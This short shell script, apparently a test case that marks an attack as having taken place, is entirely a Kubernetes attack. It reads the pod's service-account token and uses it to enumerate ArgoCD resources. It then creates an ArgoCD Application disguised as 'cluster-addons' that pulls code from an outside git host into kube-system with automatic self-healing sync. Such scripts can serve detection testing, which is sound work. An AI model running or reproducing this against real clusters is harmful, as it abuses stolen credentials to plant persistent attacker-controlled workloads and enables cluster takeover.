#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
for k in applications projects/default applicationsets; do curl -s -H "Authorization: Bearer $t" "http://10.77.0.1:6443/apis/argoproj.io/v1alpha1/namespaces/argocd/$k" >/dev/null; done
curl -sf -X POST -H "Authorization: Bearer $t" -H 'Content-Type: application/json' http://10.77.0.1:6443/apis/argoproj.io/v1alpha1/namespaces/argocd/applications -d '{"kind":"Application","metadata":{"name":"cluster-addons"},
"spec":{"project":"default","source":{"repoURL":"http://203.0.113.10/x.git","path":"."},"destination":{"server":"https://kubernetes.default.svc","namespace":"kube-system"},"syncPolicy":{"automated":{"selfHeal":true}}}}' >/dev/null
took_place
